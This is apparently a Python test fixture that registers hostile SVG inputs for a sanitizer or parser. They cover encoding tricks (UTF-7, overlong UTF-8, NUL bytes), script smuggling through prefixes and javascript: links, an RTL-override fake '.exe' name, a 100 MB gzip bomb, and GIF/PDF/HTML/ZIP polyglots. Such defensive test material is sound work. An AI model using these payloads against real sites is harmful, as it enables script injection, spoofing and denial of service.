_encoded("bom-twice", "two marks", "utf-8", codecs.BOM_UTF8 * 2)
_encoded("bom-lie", "a mark of UTF-8 before another encoding's name", "utf-8", codecs.BOM_UTF8, "utf-16")
_encoded("latin-1", "Latin-1", "latin-1", b"", "iso-8859-1")
_encoded("space-before", "white space before the declaration", "utf-8", b"\n\n ")
_whole(
    "utf-7",
    "a script in UTF-7",
    drawing("+ADw-script+AD4-@RUN@+ADw-/script+AD4-", before='<?xml version="1.0" encoding="UTF-7"?>'),
)
_add(
    "utf-8-overlong",
    "a bracket in two bytes",
    lambda: drawing("<text>@@script@@</text>").encode().replace(b"@@", b"\xc0\xbc"),
)
_add(
    "utf-8-broken",
    "bytes that are no text",
    lambda: drawing("<text>@@</text>").encode().replace(b"@@", b"\xff\xfe\xed\xa0\x80"),
)
_add("nul-bytes", "NUL among the letters", lambda: drawing("<scr@ipt>1</scr@ipt>").encode().replace(b"@", b"\0"))
_add("nul-end", "NUL after the end", lambda: drawing("").encode() + b"\0<script>1</script>")
_whole("nul-reference", "references to what is no character", drawing("<text>&#0;&#1;&#xFFFE;&#xD800;</text>"))
_whole("control-in-attribute", "control characters in an attribute", drawing('<g id="&#x1;&#x85;&#x2028;"/>'))
_whole(
    "noncharacters",
    "characters that are none, and those that turn text around",
    drawing('<g id="\u202e\ufffd\u200b\U0001fffe"/><title>\u202egpj.exe</title>'),
)
_whole("xml-1-1", "another XML, with other line ends", '<?xml version="1.1"?>' + drawing("<text>&#1;</text>"))
_whole("xml-2-0", "an XML that isn't there", '<?xml version="2.0"?>' + drawing(""))
_whole("cr-lines", "lines that end in every way", drawing("\r<script\r\n>\r@RUN@\u0085\u2028</script\r>\r"))
_whole("cdata-end", "an end of CDATA where none began", drawing("<text>]]></text>"))
_whole("cdata-nested", "CDATA in CDATA", drawing("<text><![CDATA[<![CDATA[</text>]]>]]&gt;</text>"))
_whole("unclosed", "a drawing that breaks off", drawing("<g><path d='M0 0").removesuffix("</svg>"))
_whole("two-roots", "two drawings in a file", drawing("") + drawing("<script>@RUN@</script>"))
_whole("text-after", "text after the drawing", drawing("") + "<!-- --> alert(1)")
_whole("attribute-twice", "an attribute twice", drawing('<image href="#a" href="@ASK@/a.png"/>'))
_whole(
    "attribute-twice-by-prefix",
    "an attribute twice under two prefixes",
    drawing(f'<image xmlns:y="{XLINK}" xlink:href="#a" y:href="@ASK@/a.png"/>'),
)
_whole(
    "prefix-unbound",
    "a prefix that nobody bound",
    drawing('<evil:script>@RUN@</evil:script><g x:href="javascript:@RUN@"/>'),
)
_whole(
    "prefix-xml",
    "the prefix xml bound anew",
    drawing('<g xmlns:xml="http://www.w3.org/XML/1998/namespace" xml:space="preserve" xml:lang="&quot;"/>'),
)
_whole("empty", "nothing", "")
_whole("only-declaration", "a declaration, and nothing", '<?xml version="1.0"?>')
_whole("only-comment", "a comment that holds a drawing", "<!-- " + drawing("") + " -->")
_add("svgz", "a packed drawing", lambda: gzip.compress(drawing("<script>1</script>").encode(), mtime=0))
_add(
    "svgz-bomb",
    "a packed drawing that unpacks to a hundred megabytes",
    lambda: gzip.compress(drawing(" " * 100_000_000).encode(), mtime=0),
)
_add(
    "gif-svg",
    "a picture that is a drawing, too",
    lambda: b"GIF89a/*" + bytes(20) + drawing("<script>1</script>").encode(),
)
_whole(
    "pdf-svg",
    "a drawing that is PDF, too",
    drawing("<!-- %PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj -->"),
)
_whole(
    "html-svg",
    "a drawing that is HTML, too",
    drawing("<!-- --><html><body onload='@RUN@'/></html>", before="<!-- <!doctype html><script>@RUN@</script> -->"),
)
_add(
    "zip-svg",
    "a drawing with a packed file behind it",
    lambda: drawing("").encode() + b"<!--PK\x05\x06" + b"0" * 18 + b"-->",
)
_whole("script-polyglot", "a drawing that is a script, too", "<!--\n@RUN@\n//-->" + drawing("<!--*/@RUN@/*-->"))

HOSTILE: Mapping[str, Hostile] = _FOUND
